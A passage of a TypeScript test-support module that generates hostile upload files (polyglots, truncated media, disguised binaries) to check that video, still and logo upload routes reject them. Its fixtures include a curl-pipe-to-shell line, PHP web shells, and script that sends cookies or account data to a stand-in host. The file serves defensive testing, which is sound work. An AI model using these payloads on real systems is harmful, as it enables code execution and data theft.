import { deflateRawSync, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';
import { phoneJpeg, plainPng, sampleIsoVideo, sampleWebm } from './media-samples.ts';

/*
 * Hostile uploads, generated in memory: every file is built here from a few valid samples
 * (tests/support/media-samples.ts) and broken on purpose, so no binary sits in the repository.
 * One corpus per upload route: the cases have the same names on every route, and the few
 * whose bytes depend on the route (a valid file under a hostile name, a cut-off upload of a
 * valid file, the other route's real file) use that route's own valid file, so the hostile
 * part is the only thing wrong with them.
 *
 * Formats are built from their published layouts: PNG (ISO/IEC 15948, W3C PNG 3rd ed.: chunk =
 * length, type, data, CRC-32), JPEG (ITU-T T.81 markers, SOF0/SOF2 frame header), WebP (RIFF
 * container, VP8/VP8X chunks, RFC 9649), GIF89a, BMP, ZIP (PKWARE APPNOTE 4.3: local header,
 * central directory, end record), POSIX ustar (IEEE Std 1003.1 pax), gzip (RFC 1952),
 * ISO base media (ISO/IEC 14496-12 boxes) and EBML/Matroska (RFC 8794, RFC 9559).
 */

export type UploadRoute = 'video' | 'still' | 'logo';
export const uploadRoutes: readonly UploadRoute[] = ['video', 'still', 'logo'];

export type Category =
  | 'wrong type behind a good name'
  | 'polyglot'
  | 'truncated'
  | 'zero-byte or near-empty'
  | 'pixel bomb'
  | 'huge declared dimensions'
  | 'SVG or HTML with script'
  | 'nested archive'
  | 'hostile file name'
  | 'cut off mid-stream'
  | 'broken form'
  | 'over the size limit';

export interface Expected {
  status: number;
  code: string;
}

/**
 * How the request goes out. `whole`: the body as built. `ends-early`: the body stops at `at`
 * bytes and Content-Length says so (the sender finished, the form did not). `dropped`: the
 * headers declare the whole body, `at` bytes are sent and the connection is destroyed.
 */
export type Delivery =
  { kind: 'whole' } | { kind: 'ends-early'; at: (r: UploadRequest) => number } | { kind: 'dropped'; at: (r: UploadRequest) => number };

/** Shapes of form that are not one well-made file part. */
export type FormShape =
  | 'one file'
  | 'no boundary parameter'
  | 'boundary not in the body'
  | 'not multipart'
  | 'multipart/mixed'
  | 'file in another field'
  | 'two files'
  | 'part without a name';

export interface HostileCase {
  name: string;
  category: Category;
  /** The file name exactly as the client means it (it may hold anything). */
  fileName: string;
  /**
   * How the name is written in the part header. `browser`: filename="…" with CR, LF and the
   * quote escaped as %0D %0A %22, as the WHATWG form encoding does; `raw`: the name's UTF-8
   * bytes unescaped, control characters and all; `extended`: filename*=UTF-8''… (RFC 8187).
   */
  nameEncoding: 'browser' | 'raw' | 'extended';
  content: Buffer;
  /** What the part says it is: a browser's guess from the name. */
  partType: string;
  form: FormShape;
  delivery: Delivery;
  expected: Expected;
}

/** The form field each route reads its file from. */
export const fieldOf: Record<UploadRoute, string> = { video: 'video', still: 'image', logo: 'logo' };

// ---------------------------------------------------------------- what each route should answer

type Outcome =
  | 'empty'
  | 'not accepted'
  | 'damaged picture'
  | 'damaged video'
  | 'too many pixels'
  | 'video too large'
  | 'extra content'
  | 'unsafe name'
  | 'incomplete'
  | 'bad form'
  | 'no file'
  | 'too large';

/** The refusal each route gives for each kind of fault (codes from the media module and the logo handler). */
const refusals: Record<UploadRoute, Record<Outcome, Expected>> = {
  video: {
    empty: { status: 400, code: 'file_empty' },
    'not accepted': { status: 415, code: 'unsupported_type' },
    // The video route does not read pictures: a broken picture is simply not a video.
    'damaged picture': { status: 415, code: 'unsupported_type' },
    'damaged video': { status: 422, code: 'video_damaged' },
    'too many pixels': { status: 415, code: 'unsupported_type' },
    'video too large': { status: 413, code: 'video_too_large' },
    'extra content': { status: 415, code: 'unsupported_type' },
    'unsafe name': { status: 400, code: 'unsafe_file_name' },
    incomplete: { status: 400, code: 'upload_incomplete' },
    'bad form': { status: 400, code: 'invalid_input' },
    'no file': { status: 400, code: 'invalid_input' },
    'too large': { status: 413, code: 'file_too_large' },
  },
  still: {
    empty: { status: 400, code: 'file_empty' },
    'not accepted': { status: 415, code: 'unsupported_type' },
    'damaged picture': { status: 422, code: 'image_damaged' },
    'damaged video': { status: 415, code: 'unsupported_type' },
    'too many pixels': { status: 413, code: 'image_too_large' },
    'video too large': { status: 415, code: 'unsupported_type' },
    'extra content': { status: 422, code: 'image_extra_content' },
    'unsafe name': { status: 400, code: 'unsafe_file_name' },
    incomplete: { status: 400, code: 'upload_incomplete' },
    'bad form': { status: 400, code: 'invalid_input' },
    'no file': { status: 400, code: 'invalid_input' },
    'too large': { status: 413, code: 'file_too_large' },
  },
  logo: {
    empty: { status: 400, code: 'empty_file' },
    'not accepted': { status: 415, code: 'unsupported_image' },
    'damaged picture': { status: 422, code: 'unreadable_image' },
    'damaged video': { status: 415, code: 'unsupported_image' },
    'too many pixels': { status: 413, code: 'image_too_large' },
    'video too large': { status: 415, code: 'unsupported_image' },
    'extra content': { status: 422, code: 'image_extra_content' },
    'unsafe name': { status: 400, code: 'unsafe_file_name' },
    incomplete: { status: 400, code: 'upload_incomplete' },
    'bad form': { status: 400, code: 'invalid_input' },
    'no file': { status: 400, code: 'no_file' },
    'too large': { status: 413, code: 'file_too_large' },
  },
};

// ---------------------------------------------------------------- byte helpers

const u16be = (n: number) => {
  const b = Buffer.alloc(2);
  b.writeUInt16BE(n);
  return b;
};
const u32be = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
};
const u16le = (n: number) => {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
};
const u32le = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n >>> 0);
  return b;
};
const text = (s: string) => Buffer.from(s, 'utf8');
const latin1 = (s: string) => Buffer.from(s, 'latin1');
const hex = (s: string) => Buffer.from(s.replace(/\s+/g, ''), 'hex');

/** CRC-32 (ISO 3309 / ITU-T V.42 polynomial 0xEDB88320, reflected), as PNG and ZIP use it. */
const crcTable = Array.from({ length: 256 }, (_, n) => {
  let c = n;
  for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
  return c >>> 0;
});
export function crc32(buf: Buffer): number {
  let c = 0xffffffff;
  for (const byte of buf) c = crcTable[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

// ---------------------------------------------------------------- PNG

const PNG_SIGNATURE = hex('89504e470d0a1a0a');

function pngChunk(type: string, data: Buffer) {
  const typed = Buffer.concat([latin1(type), data]);
  return Buffer.concat([u32be(data.length), typed, u32be(crc32(typed))]);
}

/** A PNG from its header fields and an IDAT stream (a tiny one by default: the bomb's calling card). */
function png(options: {
  width: number;
  height: number;
  bitDepth?: number;
  colorType?: number;
  interlace?: number;
  idat?: Buffer;
  palette?: boolean;
}) {
  const { width, height, bitDepth = 8, colorType = 2, interlace = 0 } = options;
  const ihdr = Buffer.concat([u32be(width), u32be(height), Buffer.from([bitDepth, colorType, 0, 0, interlace])]);
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', ihdr),
    ...(options.palette ? [pngChunk('PLTE', hex('000000ffffff'))] : []),
    pngChunk('IDAT', options.idat ?? deflateSync(Buffer.alloc(16))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

// ---------------------------------------------------------------- JPEG

/** Rewrite the frame header (SOF0..SOF3) of a JPEG with other dimensions; the rest is untouched. */
function jpegWithSize(jpeg: Buffer, width: number, height: number) {
  const out = Buffer.from(jpeg);
  let i = 2;
  while (i + 4 <= out.length && out[i] === 0xff) {
    const marker = out[i + 1]!;
    const length = out.readUInt16BE(i + 2);
    if (marker >= 0xc0 && marker <= 0xc3) {
      // SOFn: length(2) precision(1) height(2) width(2) … (ITU-T T.81 B.2.2)
      out.writeUInt16BE(height, i + 5);
      out.writeUInt16BE(width, i + 7);
      return out;
    }
    i += 2 + length;
  }
  throw new Error('no frame header found');
}

// ---------------------------------------------------------------- WebP

/** A WebP with an extended header (VP8X) declaring a canvas of this size over a small real image. */
function webpWithCanvas(webp: Buffer, width: number, height: number) {
  const vp8x = Buffer.alloc(10);
  vp8x.writeUIntLE(width - 1, 4, 3);
  vp8x.writeUIntLE(height - 1, 7, 3);
  const inner = webp.subarray(12); // the chunks after "RIFF" size "WEBP"
  const chunks = Buffer.concat([latin1('VP8X'), u32le(10), vp8x, inner]);
  return Buffer.concat([latin1('RIFF'), u32le(chunks.length + 4), latin1('WEBP'), chunks]);
}

/** A lossy WebP whose VP8 frame header declares this size (14 bits a side, RFC 6386 §9.1). */
function webpFrameSize(webp: Buffer, width: number, height: number) {
  const out = Buffer.from(webp);
  const at = out.indexOf(hex('9d012a'));
  if (at < 0) throw new Error('not a lossy WebP');
  out.writeUInt16LE(width & 0x3fff, at + 3);
  out.writeUInt16LE(height & 0x3fff, at + 5);
  return out;
}

// ---------------------------------------------------------------- GIF, BMP and other small formats

/** The well-known 1 × 1 GIF89a. */
const tinyGif = () => hex('474946383961 0100 0100 800000 000000 ffffff 21f90401000000 00 2c 0000 0000 0100 0100 00 0202 4401 00 3b');

function gifWithSize(width: number, height: number) {
  const gif = tinyGif();
  gif.writeUInt16LE(width, 6);
  gif.writeUInt16LE(height, 8);
  // The image descriptor follows the colour table and the graphic control extension.
  const descriptor = gif.indexOf(0x2c, 13);
  gif.writeUInt16LE(width, descriptor + 5);
  gif.writeUInt16LE(height, descriptor + 7);
  return gif;
}

function tinyBmp() {
  const pixels = Buffer.from([0x20, 0x40, 0x80, 0x00]);
  const dib = Buffer.concat([
    u32le(40),
    u32le(1),
    u32le(1),
    u16le(1),
    u16le(24),
    u32le(0),
    u32le(pixels.length),
    u32le(2835),
    u32le(2835),
    u32le(0),
    u32le(0),
  ]);
  const size = 14 + dib.length + pixels.length;
  return Buffer.concat([latin1('BM'), u32le(size), u32le(0), u32le(14 + dib.length), dib, pixels]);
}

function tinyTiff() {
  // Little-endian TIFF with one IFD: 1 × 1, 8-bit grey, one strip of one byte (TIFF 6.0 §2).
  const entries: [number, number, number, number][] = [
    [256, 3, 1, 1],
    [257, 3, 1, 1],
    [258, 3, 1, 8],
    [262, 3, 1, 1],
    [273, 4, 1, 8 + 2 + 6 * 12 + 4],
    [279, 4, 1, 1],
  ];
  const ifd = Buffer.concat([
    u16le(entries.length),
    ...entries.map(([tag, type, count, value]) => Buffer.concat([u16le(tag), u16le(type), u32le(count), u32le(value)])),
    u32le(0),
  ]);
  return Buffer.concat([latin1('II*\0'), u32le(8), ifd, Buffer.from([0x80])]);
}

function tinyIco() {
  const bmp = tinyBmp().subarray(14);
  return Buffer.concat([hex('0000 0100 0100'), hex('01 01 00 00 0100 1800'), u32le(bmp.length), u32le(22), bmp]);
}

function elfBinary() {
  const b = Buffer.alloc(64);
  hex('7f454c46 02 01 01 00').copy(b);
  b.writeUInt16LE(2, 16); // executable
  b.writeUInt16LE(0x3e, 18); // x86-64
  b.writeUInt32LE(1, 20);
  return Buffer.concat([b, latin1('\x31\xc0\xc3'), Buffer.alloc(61)]);
}

function windowsExe() {
  const b = Buffer.alloc(0x100);
  latin1('MZ').copy(b);
  b.writeUInt32LE(0x80, 0x3c);
  latin1('This program cannot be run in DOS mode.').copy(b, 0x4e);
  latin1('PE\0\0').copy(b, 0x80);
  b.writeUInt16LE(0x8664, 0x84);
  return b;
}

const pdfDocument = () =>
  text(
    '%PDF-1.7\n1 0 obj <</Type /Catalog /Pages 2 0 R /OpenAction 3 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n' +
      '3 0 obj <</S /JavaScript /JS (app.alert\\(1\\))>> endobj\ntrailer <</Root 1 0 R>>\n%%EOF\n',
  );

const sqliteFile = () =>
  Buffer.concat([latin1('SQLite format 3\0'), u16be(4096), Buffer.from([1, 1, 0, 64, 32, 32]), Buffer.alloc(4096 - 22)]);

// ---------------------------------------------------------------- ISO base media and EBML

function isoBox(type: string, ...parts: Buffer[]) {
  const body = Buffer.concat(parts);
  return Buffer.concat([u32be(body.length + 8), latin1(type), body]);
}

/** A file whose only box is `ftyp` with this brand: enough for content sniffing to name it. */
const ftypOnly = (brand: string, compatible: string) =>
  Buffer.concat([isoBox('ftyp', latin1(brand), u32be(0), latin1(compatible)), isoBox('mdat', Buffer.alloc(64, 7))]);

/** An MP4 whose track header declares this picture size. */
function mp4WithSize(width: number, height: number) {
  const mp4 = sampleIsoVideo();
  const at = mp4.indexOf(latin1('tkhd'));
  const end = at - 4 + mp4.readUInt32BE(at - 4);
  mp4.writeUInt32BE((width * 65536) >>> 0, end - 8);
  mp4.writeUInt32BE((height * 65536) >>> 0, end - 4);
  return mp4;
}

const ebmlSize = (n: number) => {
  const b = Buffer.alloc(8);
  b[0] = 0x01;
  b.writeUIntBE(n, 2, 6);
  return b;
};
const ebml = (id: number[], ...parts: Buffer[]) => {
  const body = Buffer.concat(parts);
  return Buffer.concat([Buffer.from(id), ebmlSize(body.length), body]);
};

/** A Matroska (not WebM) file: same container, another DocType. */
function matroska() {
  const header = ebml([0x1a, 0x45, 0xdf, 0xa3], ebml([0x42, 0x82], latin1('matroska')), ebml([0x42, 0x87], Buffer.from([4])));
  const cluster = ebml([0x1f, 0x43, 0xb6, 0x75], ebml([0xe7], Buffer.from([0])), ebml([0xa3], Buffer.alloc(500, 0x5a)));
  return Buffer.concat([header, ebml([0x18, 0x53, 0x80, 0x67], cluster)]);
}

// ---------------------------------------------------------------- archives

interface ZipEntry {
  name: string;
  data: Buffer;
  deflate?: boolean;
}

/** A ZIP written by hand (PKWARE APPNOTE 4.3): local headers, the central directory, the end record. */
export function zip(entries: ZipEntry[]) {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const entry of entries) {
    const name = text(entry.name);
    const stored = entry.deflate ? deflateRawSync(entry.data) : entry.data;
    const method = entry.deflate ? 8 : 0;
    const crc = crc32(entry.data);
    const common = Buffer.concat([
      u16le(20),
      u16le(0),
      u16le(method),
      u16le(0),
      u16le(0x21),
      u32le(crc),
      u32le(stored.length),
      u32le(entry.data.length),
      u16le(name.length),
      u16le(0),
    ]);
    const local = Buffer.concat([u32le(0x04034b50), common, name, stored]);
    centrals.push(Buffer.concat([u32le(0x02014b50), u16le(20), common, u16le(0), u16le(0), u16le(0), u32le(0), u32le(offset), name]));
    locals.push(local);
    offset += local.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.concat([
    u32le(0x06054b50),
    u16le(0),
    u16le(0),
    u16le(entries.length),
    u16le(entries.length),
    u32le(directory.length),
    u32le(offset),
    u16le(0),
  ]);
  return Buffer.concat([...locals, directory, end]);
}

/** A POSIX ustar archive (IEEE Std 1003.1): 512-byte headers, data padded to 512, two zero blocks. */
export function tar(entries: { name: string; data: Buffer }[]) {
  const blocks: Buffer[] = [];
  for (const entry of entries) {
    const header = Buffer.alloc(512);
    header.write(entry.name.slice(0, 99), 0, 'utf8');
    header.write('0000644\0', 100, 'latin1');
    header.write('0000000\0', 108, 'latin1');
    header.write('0000000\0', 116, 'latin1');
    header.write(`${entry.data.length.toString(8).padStart(11, '0')}\0`, 124, 'latin1');
    header.write('00000000000\0', 136, 'latin1');
    header.write('        ', 148, 'latin1');
    header.write('0', 156, 'latin1');
    header.write('ustar\x0000', 257, 'latin1');
    let sum = 0;
    for (const byte of header) sum += byte;
    header.write(`${sum.toString(8).padStart(6, '0')}\0 `, 148, 'latin1');
    blocks.push(header, entry.data, Buffer.alloc((512 - (entry.data.length % 512)) % 512));
  }
  return Buffer.concat([...blocks, Buffer.alloc(1024)]);
}

// ---------------------------------------------------------------- markup with script

const htmlWithScript =
  '<!doctype html><html><head><title>Sewer report</title></head><body><script>fetch("/api/account").then(r=>r.text()).then(t=>navigator.sendBeacon("//x.invalid",t))</script></body></html>';
const svgWithScript =
  '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="200" height="200"><script>alert(document.cookie)</script><rect width="200" height="200"/></svg>';

// ---------------------------------------------------------------- the corpus

/** MIME type a browser would claim for a name. */
function guessType(name: string) {
  const ext = /\.([a-z0-9]+)$/i.exec(name)?.[1]?.toLowerCase();
  return (
    {
      jpg: 'image/jpeg',
      jpeg: 'image/jpeg',
      png: 'image/png',
      webp: 'image/webp',
      mp4: 'video/mp4',
      mov: 'video/quicktime',
      webm: 'video/webm',
    }[ext ?? ''] ?? 'application/octet-stream'
  );
}

interface Samples {
  jpeg: Buffer;
  progressiveJpeg: Buffer;
  png: Buffer;
  webp: Buffer;
  mp4: Buffer;
  mov: Buffer;
  webm: Buffer;
  bigVideo: Buffer;
  bigJpeg: Buffer;
}

let samplesOnce: Promise<Samples> | undefined;
function samples(): Promise<Samples> {
  samplesOnce ??= (async () => {
    const base = () => sharp({ create: { width: 320, height: 240, channels: 3, background: '#4a6b5a' } });
    return {
      jpeg: await phoneJpeg(600, 400),
      progressiveJpeg: await base().jpeg({ progressive: true }).toBuffer(),
      png: await plainPng(300, 200),
      webp: await base().webp({ quality: 70 }).toBuffer(),
      mp4: sampleIsoVideo(),
      mov: sampleIsoVideo({ brand: 'qt' }),
      webm: sampleWebm(),
      // Larger files for the uploads that are cut off: the server has begun writing them when the cut comes.
      bigVideo: sampleIsoVideo({ payloadBytes: 400_000 }),
      bigJpeg: await sharp({
        create: { width: 800, height: 600, channels: 3, background: '#808080', noise: { type: 'gaussian', mean: 128, sigma: 40 } },
      })
        .jpeg({ quality: 90 })
        .toBuffer(),
    };
  })();
  return samplesOnce;
}

/** The largest file any upload route takes in the test app (MEDIA_MAX_*_MB=2, the logo's own 2 MB). */
export const TEST_UPLOAD_LIMIT_BYTES = 2 * 1024 * 1024;

export async function hostileCorpus(route: UploadRoute): Promise<HostileCase[]> {
  const s = await samples();
  const r = refusals[route];
  /** This route's own valid file, and a name for it. */
  const valid = {
    video: { content: s.mp4, name: 'run.mp4' },
    still: { content: s.jpeg, name: 'photo.jpg' },
    logo: { content: s.png, name: 'logo.png' },
  }[route];
  const validBig = { video: s.bigVideo, still: s.bigJpeg, logo: s.bigJpeg }[route];
  const cases: HostileCase[] = [];
  const add = (
    category: Category,
    name: string,
    content: Buffer,
    fileName: string,
    expected: Expected,
    more: Partial<Pick<HostileCase, 'nameEncoding' | 'partType' | 'form' | 'delivery'>> = {},
  ) => {
    cases.push({
      name,
      category,
      content,
      fileName,
      expected,
      nameEncoding: more.nameEncoding ?? 'browser',
      partType: more.partType ?? guessType(fileName),
      form: more.form ?? 'one file',
      delivery: more.delivery ?? { kind: 'whole' },
    });
  };

  // ---- wrong type behind a good name: content no route takes, under each route's usual name.
  const goodNames = ['photo.jpg', 'clip.mp4', 'logo.png'];
  const wrongTypes: [string, Buffer][] = [
    ['a PDF with an OpenAction script', pdfDocument()],
    ['a ZIP archive', zip([{ name: 'readme.txt', data: text('hello') }])],
    ['a Linux ELF program', elfBinary()],
    ['a Windows EXE', windowsExe()],
    ['an HTML page', text(htmlWithScript)],
    ['plain text', text('Sewer lateral notes: roots at 24 ft, offset at 41 ft.\n')],
    ['JSON', text('{"media":[{"id":"x","kind":"video"}]}')],
    ['a shell script', text('#!/bin/sh\ncurl -s http://x.invalid/p | sh\n')],
    ['a PHP web shell', text('<?php system($_GET["c"]); ?>')],
    ['JavaScript', text('fetch("/api/company").then((r) => r.json()).then(console.log);\n')],
    ['an XML document', text('<?xml version="1.0"?><order><id>1</id></order>')],
    ['a GIF', tinyGif()],
    ['a BMP', tinyBmp()],
    ['a TIFF', tinyTiff()],
    ['an ICO', tinyIco()],
    [
      'a Photoshop file',
      Buffer.concat([latin1('8BPS'), u16be(1), Buffer.alloc(6), u16be(3), u32be(1), u32be(1), u16be(8), u16be(3), Buffer.alloc(64)]),
    ],
    ['a HEIC photo', ftypOnly('heic', 'mif1heic')],
    ['an AVIF picture', ftypOnly('avif', 'mif1avif')],
    ['a 3GP video', ftypOnly('3gp4', '3gp4isom')],
    ['a Matroska video', matroska()],
    ['an AVI video', Buffer.concat([latin1('RIFF'), u32le(200), latin1('AVI LIST'), u32le(188), latin1('hdrlavih'), Buffer.alloc(180)])],
    ['an FLV video', Buffer.concat([latin1('FLV'), Buffer.from([1, 5, 0, 0, 0, 9, 0, 0, 0, 0]), Buffer.alloc(64)])],
    [
      'an MPEG transport stream',
      Buffer.concat(Array.from({ length: 4 }, () => Buffer.concat([Buffer.from([0x47, 0x40, 0x00, 0x10]), Buffer.alloc(184, 0xff)]))),
    ],
    ['an MP3', Buffer.concat([latin1('ID3'), Buffer.from([4, 0, 0, 0, 0, 0, 0]), hex('fffb9064'), Buffer.alloc(400)])],
    [
      'a WAV',
      Buffer.concat([
        latin1('RIFF'),
        u32le(36),
        latin1('WAVEfmt '),
        u32le(16),
        u16le(1),
        u16le(1),
        u32le(8000),
        u32le(8000),
        u16le(1),
        u16le(8),
        latin1('data'),
        u32le(0),
      ]),
    ],
    [
      'an Ogg stream',
      Buffer.concat([latin1('OggS'), Buffer.from([0, 2]), Buffer.alloc(20), Buffer.from([1, 30]), latin1('\x01vorbis'), Buffer.alloc(23)]),
    ],
    ['a FLAC', Buffer.concat([latin1('fLaC'), Buffer.from([0x80, 0, 0, 34]), Buffer.alloc(34)])],
    ['a SQLite database', sqliteFile()],
    ['a WebAssembly module', hex('0061736d 01000000')],
    ['a Java class', Buffer.concat([hex('cafebabe 0000 0034'), Buffer.alloc(32)])],
    ['a RAR archive', Buffer.concat([hex('526172211a070100'), Buffer.alloc(32)])],
    ['a 7-Zip archive', Buffer.concat([hex('377abcaf271c 0004'), Buffer.alloc(24)])],
    ['a gzip file', gzipSync(text('not a picture'))],
    ['an XZ file', Buffer.concat([hex('fd377a585a00'), Buffer.alloc(32)])],
    ['a Flash SWF', Buffer.concat([latin1('FWS'), Buffer.from([10]), u32le(64), Buffer.alloc(56)])],
    ['a PostScript file', text('%!PS-Adobe-3.0\n/Helvetica findfont 12 scalefont setfont 72 72 moveto (x) show showpage\n')],
    ['an RTF document', text('{\\rtf1\\ansi{\\object\\objautlink x}}')],
    ['a Windows shortcut', Buffer.concat([hex('4c000000 01140200 00000000 c0000000 00000046'), Buffer.alloc(56)])],
  ];
  for (const [what, content] of wrongTypes) {
    for (const fileName of goodNames)
      add('wrong type behind a good name', `${what} named ${fileName}`, content, fileName, r['not accepted']);
  }
  // The other routes' real files behind this route's name: a photo is not a video, and a video is not a picture.
  if (route === 'video') {
    add('wrong type behind a good name', 'a real JPEG photo named run.mp4', s.jpeg, 'run.mp4', r['not accepted']);
    add('wrong type behind a good name', 'a real PNG named run.mov', s.png, 'run.mov', r['not accepted']);
    add('wrong type behind a good name', 'a real WebP named run.webm', s.webp, 'run.webm', r['not accepted']);
  } else {
    add('wrong type behind a good name', 'a real MP4 video named photo.jpg', s.mp4, 'photo.jpg', r['not accepted']);
    add('wrong type behind a good name', 'a real QuickTime video named photo.png', s.mov, 'photo.png', r['not accepted']);
    add('wrong type behind a good name', 'a real WebM video named photo.webp', s.webm, 'photo.webp', r['not accepted']);
  }

  // ---- polyglots: a real file of one kind that is also another.
  const html = text(htmlWithScript);
  const js = text('\n;(function(){var i=new Image();i.src="//x.invalid/?c="+encodeURIComponent(document.cookie)})();//');
  const php = text('<?php eval($_POST["x"]); ?>');
  const jar = zip([
    { name: 'META-INF/MANIFEST.MF', data: text('Manifest-Version: 1.0\nMain-Class: X\n') },
    { name: 'X.class', data: hex('cafebabe00000034') },
  ]);
  const picturePolyglots: [string, Buffer, string][] = [
    ['a JPEG followed by an HTML page', Buffer.concat([s.jpeg, html]), 'photo.jpg'],
    ['a JPEG followed by JavaScript', Buffer.concat([s.jpeg, js]), 'photo.jpg'],
    ['a JPEG followed by a ZIP (a JAR)', Buffer.concat([s.jpeg, jar]), 'photo.jpg'],
    ['a JPEG followed by PHP', Buffer.concat([s.jpeg, php]), 'photo.jpg'],
    ['a JPEG followed by a PDF', Buffer.concat([s.jpeg, pdfDocument()]), 'photo.jpg'],
    ['a JPEG followed by 4 KB of zeros and then HTML', Buffer.concat([s.jpeg, Buffer.alloc(4096), html]), 'photo.jpg'],
    [
      'a JPEG followed by an SVG with onload',
      Buffer.concat([s.jpeg, text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')]),
      'photo.jpg',
    ],
    ['a JPEG followed by an ELF program', Buffer.concat([s.jpeg, elfBinary()]), 'photo.jpg'],
    ['a JPEG followed by a gzipped tar', Buffer.concat([s.jpeg, gzipSync(tar([{ name: 'x.sh', data: text('id\n') }]))]), 'photo.jpg'],
    ['a JPEG, an HTML page, then a second JPEG', Buffer.concat([s.jpeg, html, s.jpeg]), 'photo.jpg'],
    ['a progressive JPEG followed by an HTML page', Buffer.concat([s.progressiveJpeg, html]), 'photo.jpg'],
    ['a PNG followed by an HTML page', Buffer.concat([s.png, html]), 'logo.png'],
    ['a PNG followed by a ZIP', Buffer.concat([s.png, zip([{ name: 'a.txt', data: text('a') }])]), 'logo.png'],
    ['a PNG followed by JavaScript', Buffer.concat([s.png, js]), 'logo.png'],
    ['a PNG followed by PHP', Buffer.concat([s.png, php]), 'logo.png'],
    ['a PNG followed by junk bytes and a ZIP', Buffer.concat([s.png, Buffer.from([1, 2, 3, 4, 5]), jar]), 'logo.png'],
    ['a PNG followed by upper-case <SCRIPT>', Buffer.concat([s.png, text('<SCRIPT SRC=//x.invalid/x.js></SCRIPT>')]), 'logo.png'],
    ['a WebP followed by an HTML page', Buffer.concat([s.webp, html]), 'photo.webp'],
    ['a WebP followed by a ZIP', Buffer.concat([s.webp, jar]), 'photo.webp'],
  ];
  for (const [what, content, fileName] of picturePolyglots) add('polyglot', what, content, fileName, r['extra content']);
  const gifJs = Buffer.concat([
    latin1('GIF89a/*'),
    Buffer.from([1, 0, 0, 0, 0]),
    latin1('*/=1;alert(document.domain);/*'),
    tinyGif().subarray(13),
    latin1('*/'),
  ]);
  add('polyglot', 'a GIF that is also JavaScript', gifJs, 'photo.jpg', r['not accepted']);
  add('polyglot', 'a GIF followed by a JAR (GIFAR)', Buffer.concat([tinyGif(), jar]), 'logo.png', r['not accepted']);
  add('polyglot', 'a PDF followed by a JPEG', Buffer.concat([pdfDocument(), s.jpeg]), 'photo.jpg', r['not accepted']);
  add('polyglot', 'a ZIP followed by a JPEG', Buffer.concat([jar, s.jpeg]), 'photo.jpg', r['not accepted']);
  add('polyglot', 'an HTML page behind a JPEG signature', Buffer.concat([hex('ffd8ffe0'), html]), 'photo.jpg', r['damaged picture']);
  const videoPolyglot = { video: r['damaged video'], still: r['not accepted'], logo: r['not accepted'] }[route];
  add('polyglot', 'an MP4 followed by an HTML page', Buffer.concat([s.mp4, html]), 'clip.mp4', videoPolyglot);
  add('polyglot', 'an MP4 followed by a ZIP', Buffer.concat([s.mp4, jar]), 'clip.mp4', videoPolyglot);
  add('polyglot', 'a WebM followed by an HTML page', Buffer.concat([s.webm, html]), 'clip.webm', videoPolyglot);
  add('polyglot', 'a WebM followed by a ZIP', Buffer.concat([s.webm, jar]), 'clip.webm', videoPolyglot);

  // ---- truncated: real files cut at several points (header only, part way, just short of the end).
  const cut = (b: Buffer, at: number) => b.subarray(0, at < 0 ? b.length + at : at);
  const picture = (status: Expected) => ({ video: r['not accepted'], still: status, logo: status })[route];
  const videoCut = (status: Expected) => ({ video: status, still: r['not accepted'], logo: r['not accepted'] })[route];
  add('truncated', 'a JPEG cut after its first 2 bytes', cut(s.jpeg, 2), 'photo.jpg', r['not accepted']);
  for (const [label, at] of [
    ['3 bytes', 3],
    ['11 bytes', 11],
    ['100 bytes', 100],
    ['a quarter', Math.floor(s.jpeg.length / 4)],
    ['half', Math.floor(s.jpeg.length / 2)],
    ['three quarters', Math.floor((s.jpeg.length * 3) / 4)],
    ['all but its end marker', -2],
    ['all but its last byte', -1],
  ] as const) {
    add('truncated', `a JPEG cut after ${label}`, cut(s.jpeg, at), 'photo.jpg', picture(r['damaged picture']));
  }
  add(
    'truncated',
    'a progressive JPEG cut in half',
    cut(s.progressiveJpeg, Math.floor(s.progressiveJpeg.length / 2)),
    'photo.jpg',
    picture(r['damaged picture']),
  );
  // Eight bytes are only the signature: too little for the content check to call it a PNG.
  add('truncated', 'a PNG cut after its signature', cut(s.png, 8), 'logo.png', r['not accepted']);
  for (const [label, at] of [
    ['16 bytes', 16],
    ['its header chunk', 33],
    ['half', Math.floor(s.png.length / 2)],
    ['all but its end chunk', -12],
    ['all but its last byte', -1],
  ] as const) {
    add('truncated', `a PNG cut after ${label}`, cut(s.png, at), 'logo.png', picture(r['damaged picture']));
  }
  for (const [label, at] of [
    ['its RIFF header', 12],
    ['20 bytes', 20],
    ['half', Math.floor(s.webp.length / 2)],
    ['all but its last 4 bytes', -4],
  ] as const) {
    add('truncated', `a WebP cut after ${label}`, cut(s.webp, at), 'photo.webp', picture(r['damaged picture']));
  }
  add('truncated', 'an MP4 cut after 8 bytes', cut(s.mp4, 8), 'clip.mp4', r['not accepted']);
  for (const [label, at] of [
    ['its file type box', 32],
    ['40 bytes', 40],
    ['half', Math.floor(s.mp4.length / 2)],
    ['all but its last byte', -1],
  ] as const) {
    add('truncated', `an MP4 cut after ${label}`, cut(s.mp4, at), 'clip.mp4', videoCut(r['damaged video']));
  }
  add(
    'truncated',
    'an MP4 with no movie index (moov)',
    Buffer.concat([s.mp4.subarray(0, 32), isoBox('mdat', Buffer.alloc(2000, 3))]),
    'clip.mp4',
    videoCut(r['damaged video']),
  );
  add('truncated', 'a QuickTime movie cut in half', cut(s.mov, Math.floor(s.mov.length / 2)), 'clip.mov', videoCut(r['damaged video']));
  for (const [label, at] of [
    ['its EBML header', 60],
    ['half', Math.floor(s.webm.length / 2)],
    ['all but its last byte', -1],
  ] as const) {
    add('truncated', `a WebM cut after ${label}`, cut(s.webm, at), 'clip.webm', videoCut(r['damaged video']));
  }

  // ---- zero-byte and near-empty files.
